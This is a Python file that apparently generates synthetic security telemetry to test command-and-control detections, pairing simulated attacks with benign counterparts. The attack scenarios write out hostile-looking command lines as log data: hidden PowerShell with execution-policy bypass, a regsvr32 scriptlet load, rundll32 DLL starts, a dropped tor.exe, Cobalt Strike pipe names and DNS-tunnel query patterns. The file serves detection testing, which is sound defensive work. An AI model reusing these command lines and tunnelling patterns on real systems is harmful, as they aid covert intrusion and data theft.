def x9_macos_unsigned_non_standard_protocol(rec, t0):
    """AN1256 with code signing: on a Mac, an unsigned implant in Application Support talking
    UDP to a custom port; an ad-hoc-signed reverse SOCKS proxy built on the host; an unsigned
    copy of ping in /private/tmp holding an ICMP socket (its name passes the raw-socket
    allowlist, its signature does not); a Python script speaking UDP to an odd port."""
    mac = Host("mac34.corp.example", "10.20.6.34", "macos")
    implant = "/Users/ben/Library/Application Support/.helper/helperd"
    _signature(rec, mac, t0, implant, 0)
    _open_socket(rec, mac, t0 + 1, 6610, implant, 2, 17, remote=("198.51.100.80", 53535),
                 local=("10.20.6.34", 61022), cmdline=implant)
    proxy = "/Users/ben/.local/bin/rsocx"
    _signature(rec, mac, t0 + 30, proxy, 1, identifier="rsocx-55554944a1b2c3d4")
    _socket_event(rec, mac, t0 + 31, 6655, proxy, ("203.0.113.82", 1080))
    fake_ping = "/private/tmp/ping"
    _signature(rec, mac, t0 + 60, fake_ping, 0)
    _open_socket(rec, mac, t0 + 61, 6690, fake_ping, 2, 1, cmdline="/private/tmp/ping -i 5 198.51.100.80")
    _signature(rec, mac, t0 + 90, "/usr/bin/python3", 1, identifier="com.apple.python3",
               authority="Software Signing")
    _open_socket(rec, mac, t0 + 91, 6720, "/usr/bin/python3", 2, 17,
                 remote=("203.0.113.81", 9999), local=("10.20.6.34", 60111),
                 cmdline="/usr/bin/python3 /Users/ben/.local/share/sync.py")


@scenario
def benign_macos_signed_network(rec, t0):
    """The quiet counterpart of x9: Apple's ping (signed, allowlisted), Zoom on its UDP media
    port, Tailscale (Developer ID) on its WireGuard UDP port, a Homebrew tool (ad-hoc
    signed on Apple silicon) on HTTPS and DNS, mDNSResponder on multicast."""
    mac = Host("mac44.corp.example", "10.20.6.44", "macos")
    _signature(rec, mac, t0, "/sbin/ping", 1, identifier="com.apple.ping",
               authority="Software Signing")
    _open_socket(rec, mac, t0 + 1, 901, "/sbin/ping", 2, 1, cmdline="ping -c 3 10.20.0.1")
    zoom = "/Applications/zoom.us.app/Contents/MacOS/zoom.us"
    _signature(rec, mac, t0 + 10, zoom, 1, identifier="us.zoom.xos", team="BJ4HAAB9B3",
               authority="Developer ID Application: Zoom Video Communications, Inc. (BJ4HAAB9B3)")
    _open_socket(rec, mac, t0 + 11, 1201, zoom, 2, 17, remote=("170.114.52.2", 8801),
                 local=("10.20.6.44", 62001))
    tailscale = "/Applications/Tailscale.app/Contents/PlugIns/IPNExtension.appex/Contents/MacOS/IPNExtension"
    _signature(rec, mac, t0 + 20, tailscale, 1, identifier="io.tailscale.ipn.macsys.network-extension",
               team="W5364U7YZB", authority="Developer ID Application: Tailscale Inc. (W5364U7YZB)")
    _open_socket(rec, mac, t0 + 21, 1301, tailscale, 2, 17, remote=("198.51.100.200", 41641),
                 local=("10.20.6.44", 41641))
    brew = "/opt/homebrew/Cellar/wget/1.24.5/bin/wget"
    _signature(rec, mac, t0 + 30, brew, 1, identifier="wget")
    _open_socket(rec, mac, t0 + 31, 1401, brew, 2, 6, remote=("93.184.216.34", 443),
                 local=("10.20.6.44", 50211), state="ESTABLISHED")
    dig = "/opt/homebrew/Cellar/bind/9.18.24/bin/dig"
    _signature(rec, mac, t0 + 40, dig, 1, identifier="dig")
    _open_socket(rec, mac, t0 + 41, 1501, dig, 2, 17, remote=("10.20.0.53", 53),
                 local=("10.20.6.44", 53001))
    _open_socket(rec, mac, t0 + 50, 377, "/usr/sbin/mDNSResponder", 2, 17,
                 local=("10.20.6.44", 5353), remote=("224.0.0.251", 5353), uid=65)


@scenario
def x10_sysmon_dns_tunnel_process(rec, t0):
    """AN1228 on the endpoint (Sysmon Event ID 22): a Cobalt Strike-style DNS beacon injected
    into rundll32 checks in with short A-record polls (api.<hex id>) and sends data in
    hex-encoded labels (post.<hex>.<hex>) through the Windows DNS client; a PowerShell DNS
    channel with short machine-made labels (counter and chunk) to another domain. Sysmon names
    the program that asked; the resolver's network sensor would only see the DNS server."""
    ws = Host("ws35.corp.example", "10.20.1.35", "windows")
    user = "CORP\\omar"
    beacon = rec.windows_process(ws, t0, "C:\\Windows\\System32\\rundll32.exe",
                                 "C:\\Windows\\System32\\rundll32.exe", user)
    session = "".join(rec.rng.choice("0123456789abcdef") for _ in range(8))
    for i in range(40):
        when = t0 + 5 + 45.0 * i + rec.rng.uniform(-3, 3)
        rec.windows_dns_query(ws, beacon, when, "api.%s.%x.static-cdn-edge.example-c2.net"
                              % (session, 0x10 + i), results="::ffff:0.0.0.0;")
        if i % 4 == 1:
            for chunk in range(3):
                data = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
                rec.windows_dns_query(ws, beacon, when + 1 + 0.3 * chunk,
                                      "post.%s.%s.%s.static-cdn-edge.example-c2.net"
                                      % (data[:28], data[28:], session),
                                      results="::ffff:0.0.0.0;")
    shell = rec.windows_process(ws, t0 + 60, POWERSHELL,
                                "powershell.exe -nop -w hidden -File C:\\Users\\Public\\dns.ps1", user)
    for i in range(30):
        chunk = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(10))
        rec.windows_dns_query(ws, shell, t0 + 70 + 20.0 * i, "r%d.%s.tx.example-c2.org"
                              % (i, chunk), status=9003, results="-")


@scenario
def benign_sysmon_dns_queries(rec, t0):
    """The quiet counterpart of x10: what Sysmon Event ID 22 shows every day. A browser
    resolving many names (CDNs on the allowlist, sites with short human-picked names), Chrome's
    random single-label probes, Defender's reputation lookups, the domain controller's SRV
    names, Outlook and Teams, and many hosts resolving a few machine-made host names in the
    company's own zone."""
    ws = Host("ws45.corp.example", "10.20.1.45", "windows")
    user = "CORP\\ines"
    chrome = rec.windows_process(ws, t0, CHROME, '"%s"' % CHROME, user)
    sites = ["www.wikipedia.org", "en.wikipedia.org", "upload.wikimedia.org", "www.bbc.co.uk",
             "static.files.bbci.co.uk", "news.ycombinator.com", "github.com", "api.github.com",
             "avatars.githubusercontent.com", "www.google.com", "fonts.googleapis.com",
             "fonts.gstatic.com", "www.youtube.com", "i.ytimg.com", "mail.google.com"]
    for i, site in enumerate(sites):
        rec.windows_dns_query(ws, chrome, t0 + 2 + 7.0 * i, site, results="::ffff:203.0.113.10;")
    for i in range(30):
        edge = "e%d.dscx.akamaiedge.net" % (1000 + 37 * i)
        rec.windows_dns_query(ws, chrome, t0 + 3 + 11.0 * i, edge, results="::ffff:203.0.113.11;")
    for i in range(3):
        probe = "".join(rec.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(10))
        rec.windows_dns_query(ws, chrome, t0 + 1 + 0.1 * i, probe, status=9003)
    defender = rec.windows_service(
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
        "MsMpEng.exe")
    for i in range(12):
        digest = "".join(rec.rng.choice("0123456789abcdef") for _ in range(32))
        rec.windows_dns_query(ws, defender, t0 + 20 + 9.0 * i, "%s.%s.sophosxl.net"
                              % (digest[:16], digest[16:]), results="::ffff:127.0.0.1;")
    svc = rec.windows_service(SVCHOST, "C:\\Windows\\System32\\svchost.exe -k NetworkService")
    for name in ("_ldap._tcp.dc._msdcs.corp.example", "_kerberos._tcp.corp.example",
                 "wpad.corp.example", "dc01.corp.example"):
        rec.windows_dns_query(ws, svc, t0 + 30, name, results="10.20.0.10;")
    outlook = rec.windows_process(ws, t0 + 40, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                  "OUTLOOK.EXE", user)
    for name in ("outlook.office365.com", "autodiscover.corp.example", "substrate.office.com"):
        rec.windows_dns_query(ws, outlook, t0 + 41, name, results="::ffff:52.96.0.1;")
    for h in range(8):
        peer = Host("ws%02d.corp.example" % (50 + h), "10.20.1.%d" % (50 + h), "windows")
        mstsc = rec.windows_process(peer, t0 + 100 + h, "C:\\Windows\\System32\\mstsc.exe",
                                    "mstsc.exe", "CORP\\helpdesk%d" % h)
        for k in range(3):
            rec.windows_dns_query(peer, mstsc, t0 + 101 + h + k, "desktop-%dk%d%d.corp.example"
                                  % (h, k, h * 7 % 10), results="10.20.1.%d;" % (60 + k))


@scenario
def x8_web_service_tor_and_framework_defaults(rec, t0):
    """Web-service C2, Tor outside Tor Browser, C2-framework defaults and LOLBin lookups (issue 15
    items 3-6): PowerShell polling the Telegram Bot API, a payload in AppData that fetches its
    next stage from a paste site; a tor.exe dropped into AppData with its own SOCKS port, talking
    to a relay's ORPort; rundll32 resolving a duckdns name and regsvr32 a DGA-like one; a Cobalt
    Strike beacon in rundll32 with its default post-ex and SMB pipes and its DNS stager;
    an Empire agent's default profile in Zeek http; a Linux host leaking a .onion name into DNS."""
    ws = Host("ws24.corp.example", "10.20.1.24", "windows")
    user = "CORP\\ana"
    parent = _cmd_parent(rec, ws, t0, user)
    ps = rec.windows_process(ws, t0 + 5, POWERSHELL,
                             "powershell.exe -w hidden -nop -ep bypass -f C:\\Users\\ana\\AppData\\Local\\Temp\\tg.ps1",
                             user, parent=parent)
    for k in range(3):
        rec.windows_dns_query(ws, ps, t0 + 10 + 300 * k, "api.telegram.org", answers=("149.154.167.220",))
    payload = rec.windows_process(ws, t0 + 20, "C:\\Users\\ana\\AppData\\Roaming\\Adobe\\AdobeUpd.exe",
                                  "AdobeUpd.exe /silent", user, parent=parent)
    rec.windows_dns_query(ws, payload, t0 + 21, "pastebin.com", answers=("104.20.67.143",))
    tor = rec.windows_process(ws, t0 + 40, "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Network\\tor.exe",
                              "tor.exe --SocksPort 127.0.0.1:9250 --quiet", user, parent=payload)
    rec.windows_connection(ws, tor, t0 + 42, "tcp", "185.220.101.4", 9001)
    rundll = rec.windows_process(ws, t0 + 60, "C:\\Windows\\System32\\rundll32.exe",
                                 "rundll32.exe C:\\Users\\ana\\AppData\\Local\\Temp\\upd.dll,Start", user, parent=parent)
    rec.windows_dns_query(ws, rundll, t0 + 61, "update-check.duckdns.org", answers=("198.51.100.40",))
    regsvr = rec.windows_process(ws, t0 + 80, "C:\\Windows\\System32\\regsvr32.exe",
                                 "regsvr32.exe /s /i C:\\Users\\ana\\AppData\\Local\\Temp\\x.sct scrobj.dll", user, parent=parent)
    rec.windows_dns_query(ws, regsvr, t0 + 81, "qxvtkrbwmzpdhl.com", answers=("198.51.100.41",))
    beacon_host = Host("ws25.corp.example", "10.20.1.25", "windows")
    beacon = rec.windows_service("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe", user="CORP\\ana")
    rec.windows_dns_query(beacon_host, beacon, t0 + 100, "aaa.stage.4471093.cdn-edge.example.net",
                          answers=("0.0.0.0",))
    rec.windows_pipe(beacon_host, beacon, t0 + 160, "\\postex_3f9a")
    rec.windows_pipe(beacon_host, beacon, t0 + 220, "\\msagent_4e")
    empire_ua = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
    for k, uri in enumerate(("/admin/get.php", "/news.php", "/login/process.php")):
        rec.zeek_http(t0 + 240 + 60 * k, "10.20.1.26", "203.0.113.77", "GET" if k < 2 else "POST",
                      "203.0.113.77", uri, empire_ua, response_body_len=210)
    rec.zeek_dns(t0 + 300, "10.20.2.24", RESOLVER, "vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion",
                 "A", rcode_name="NXDOMAIN")


@scenario
def benign_web_services_and_tor_browser(rec, t0):
    """The quiet counterpart of x8: the same services, programs and ports used as intended. Tor
    Browser from its own folder (its tor to a relay, firefox to the local SOCKS port), Telegram
    Desktop and Discord with their own services, Chrome on a paste site, OneDrive syncing,
    PowerShell and certutil on Microsoft's update names, Windows' and Chrome's own named pipes, a
    browser on a web site's /news.php, a lookup of torproject.org."""
    ws = Host("ws26.corp.example", "10.20.1.27", "windows")
    user = "CORP\\lena"
    name = user.split("\\")[-1]
    tor = rec.windows_process(ws, t0 + 5, TOR_EXE % name,
                              '"%s" -f "C:\\Users\\%s\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc"'
                              ' +__SocksPort 127.0.0.1:9150' % (TOR_EXE % name, name), user)
    rec.windows_connection(ws, tor, t0 + 7, "tcp", "185.220.101.4", 9001)
    firefox = rec.windows_service(TOR_FIREFOX % name, '"%s"' % (TOR_FIREFOX % name), user=user)
    rec.windows_connection(ws, firefox, t0 + 9, "tcp", "127.0.0.1", 9150, src="127.0.0.1")
    telegram = rec.windows_service("C:\\Users\\lena\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe",
                                   "Telegram.exe -autostart", user=user)
    rec.windows_dns_query(ws, telegram, t0 + 20, "api.telegram.org", answers=("149.154.167.220",))
    discord = rec.windows_service("C:\\Users\\lena\\AppData\\Local\\Discord\\app-1.0.9040\\Discord.exe",
                                  "Discord.exe", user=user)
    rec.windows_dns_query(ws, discord, t0 + 25, "cdn.discordapp.com", answers=("162.159.133.233",))
    chrome = rec.windows_service(CHROME, '"%s"' % CHROME, user=user)
    rec.windows_dns_query(ws, chrome, t0 + 30, "pastebin.com", answers=("104.20.67.143",))
    rec.windows_dns_query(ws, chrome, t0 + 31, "www.torproject.org", answers=("116.202.120.165",))
    onedrive = rec.windows_service("C:\\Users\\lena\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                                   "OneDrive.exe /background", user=user)
    rec.windows_dns_query(ws, onedrive, t0 + 35, "api.onedrive.com", answers=("13.107.42.12",))
    ps = rec.windows_process(ws, t0 + 40, POWERSHELL, "powershell.exe -Command Install-Module PSWindowsUpdate", user)
    rec.windows_dns_query(ws, ps, t0 + 41, "www.powershellgallery.com", answers=("13.107.6.160",))
    rec.windows_dns_query(ws, ps, t0 + 42, "psg-prod-eastus.azureedge.net", answers=("13.107.246.40",))
    certutil = rec.windows_process(ws, t0 + 50, "C:\\Windows\\System32\\certutil.exe",
                                   "certutil.exe -generateSSTFromWU roots.sst", user)
    rec.windows_dns_query(ws, certutil, t0 + 51, "ctldl.windowsupdate.com", answers=("93.184.221.240",))
    svchost = rec.windows_service(SVCHOST, "svchost.exe -k netsvcs")
    rec.windows_pipe(ws, svchost, t0 + 60, "\\srvsvc", created=False)
    rec.windows_pipe(ws, chrome, t0 + 61, "\\mojo.5688.8052.183894939787088877")
    chrome_ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                 "Chrome/124.0.0.0 Safari/537.36")
    rec.zeek_http(t0 + 70, ws.ip, "93.184.215.14", "GET", "news.example.org", "/news.php", chrome_ua,
                  response_body_len=48210)
FIREWALL_DNS = "10.20.0.53"


@scenario
def x8_cim_network_c2(rec, t0):
    """C2 seen only through CIM-mapped data (a firewall, a web proxy and the DNS server's
    log, no Zeek and no endpoint telemetry): the tstats-based CIM variants of AN1258,
    AN1228 and AN1225 must find each channel."""
    # HTTPS check-ins every 30 s (+-10 %) for 40 minutes
    beacon = "10.20.1.31"
    for i in range(80):
        rec.firewall_traffic(t0 + 30.0 * i + rec.rng.uniform(-3, 3), beacon, "203.0.113.120",
                             443, "tcp", "ssl", 1400 + rec.rng.randrange(0, 40),
                             5200 + rec.rng.randrange(0, 80), duration=0.8)
    # SMB to an address on the internet, allowed by a permissive rule
    rec.firewall_traffic(t0 + 400, "10.20.1.32", "198.51.100.140", 445, "tcp", "ms-ds-smb",
                         48000, 9000, duration=35.0)
    # ICMP tunnel: 1,200-byte echo payloads in one 15-minute session
    rec.firewall_traffic(t0 + 100, "10.20.1.33", "203.0.113.121", None, "icmp", "ping",
                         300 * 1228, 300 * 92, packets_out=300, packets_in=300, duration=900.0,
                         icmp_type=8)
    # SSH to an outside server on 443 (a tunnel through the web port)
    rec.firewall_traffic(t0 + 200, "10.20.1.34", "198.51.100.142", 443, "tcp", "ssh",
                         82000, 64000, duration=1800.0)
    # A SOCKS relay on the internet (the firewall's App-ID names the handshake)
    rec.firewall_traffic(t0 + 1200, "10.20.1.38", "198.51.100.143", 1080, "tcp", "socks",
                         24000, 310000, duration=240.0)
    # A RAT's session on a port no service uses: 1.9 MB out, 30 kB back
    rec.firewall_traffic(t0 + 900, "10.20.1.35", "198.51.100.141", 7777, "tcp", "unknown-tcp",
                         1900000, 30000, duration=600.0)
    # DNS tunnel through the internal resolver: 56 hex characters in two labels per query
    for i in range(150):
        label = "".join(rec.rng.choice("0123456789abcdef") for _ in range(56))
        record_type = ("TXT", "CNAME", "MX")[i % 3]
        rec.dns_server_log(t0 + 10.0 * i + rec.rng.uniform(0, 2.0), "10.20.1.36",
                           "%s.%s.sync.example-relay.org" % (label[:28], label[28:]), record_type,
                           [label[:48]] if record_type == "TXT"
                           else ["%s.sync.example-relay.org" % label[:40]])
    # HTTP C2 through the proxy: a GET every 45 s (+-15 %) to one rare site
    for i in range(60):
        rec.proxy_request(t0 + 45.0 * i + rec.rng.uniform(-6.75, 6.75), "10.20.1.37",
                          "http://cdn.example-jquery.net/jquery-3.3.1.min.js", bytes_out=380,
                          bytes_in=5600 + rec.rng.randrange(0, 40),
                          content_type="application/javascript", category="Uncategorized",
                          user="CORP\\ivan", dest_ip="203.0.113.123")


@scenario
def benign_cim_network(rec, t0):
    """The CIM-mapped traffic of an ordinary hour: browsing and SaaS through the firewall
    and the proxy, mail clients polling a common service, NTP, internal SMB, monitoring
    pings, SSH and uploads on their own ports, and everyday DNS. Must raise nothing."""
    clients = ["10.20.3.%d" % n for n in range(10, 24)]
    sites = ["www.example.com", "news.example.org", "docs.example.net", "shop.example.com",
             "intranet-cdn.example.net", "video.example.org"]
    for client in clients:
        # browsing: bursts of HTTPS sessions at irregular times
        for _ in range(25):
            rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), client,
                                 "198.51.100.%d" % rec.rng.randrange(1, 60), 443, "tcp", "ssl",
                                 rec.rng.randrange(800, 6000), rec.rng.randrange(5000, 400000),
                                 duration=rec.rng.uniform(0.5, 90))
        for _ in range(15):
            site = rec.rng.choice(sites)
            rec.proxy_request(t0 + rec.rng.uniform(0, 3600), client,
                              "https://%s/%s" % (site, rec.rng.choice(("", "index.html", "a/b", "img/x.png"))),
                              bytes_in=rec.rng.randrange(2000, 90000))
        # every client's mail and chat clients poll the same SaaS endpoint every minute
        for i in range(60):
            rec.proxy_request(t0 + 60.0 * i + rec.rng.uniform(0, 2), client,
                              "https://outlook.office365.com/mapi/emsmdb/?MailboxId=x",
                              http_method="POST", bytes_out=900, bytes_in=1200,
                              content_type="application/mapi-http", category="Web-based Email")
        # NTP against the internal server, DNS to the resolver, SMB to the file server
        for i in range(56):
            rec.firewall_traffic(t0 + 64.0 * i, client, NTP_SERVER, 123, "udp", "ntp", 76, 76,
                                 packets_out=1, packets_in=1, duration=0.01, dest_zone="trust")
        rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), client, FILE_SERVER, 445, "tcp",
                             "ms-ds-smb", 40000, 900000, duration=120.0, dest_zone="trust")
        for name in ("www.example.com", "outlook.office365.com", "update.example.net"):
            rec.dns_server_log(t0 + rec.rng.uniform(0, 3600), client, name, "A",
                               ["198.51.100.%d" % rec.rng.randrange(1, 60)])
    # an administrator pings outside hosts now and then: four 32-byte echo payloads each
    # (a monitoring server's timed pings are the documented false positive of the beacon
    # searches, allowlisted in c2hunt_beacon_allowlist: see false_positives)
    for i in range(5):
        rec.firewall_traffic(t0 + rec.rng.uniform(0, 3600), "10.20.3.15", "203.0.113.%d" % (1 + i), None, "icmp", "ping",
                             4 * 60, 4 * 60, packets_out=4, packets_in=4, duration=3.0,
                             icmp_type=8)
    # developers: SSH to a code host on 22, a large upload to a file-sharing site over HTTPS
    rec.firewall_traffic(t0 + 700, "10.20.3.12", "198.51.100.200", 22, "tcp", "ssh", 90000,
                         400000, duration=300.0)
    rec.firewall_traffic(t0 + 800, "10.20.3.13", "198.51.100.201", 443, "tcp", "ssl",
                         250000000, 900000, duration=900.0)
    # a CDN and an anti-virus reputation service use generated names
    for i in range(40):
        rec.dns_server_log(t0 + 30.0 * i, "10.20.3.14",
                           "%s.avqs.mcafee.com" % "".join(rec.rng.choice("0123456789abcdef") for _ in range(32)),
                           "A", ["127.0.0.1"])


def build(name, seed=DEFAULT_SEED):
    """Run one scenario; returns its Recorder."""
    if name not in SCENARIOS:
        raise KeyError("unknown scenario %r; expected one of %s" % (name, ", ".join(SCENARIOS)))
    rec = Recorder(name, seed)
    SCENARIOS[name](rec, BASE_TIME + 60.0 * (list(SCENARIOS).index(name)))
    return rec
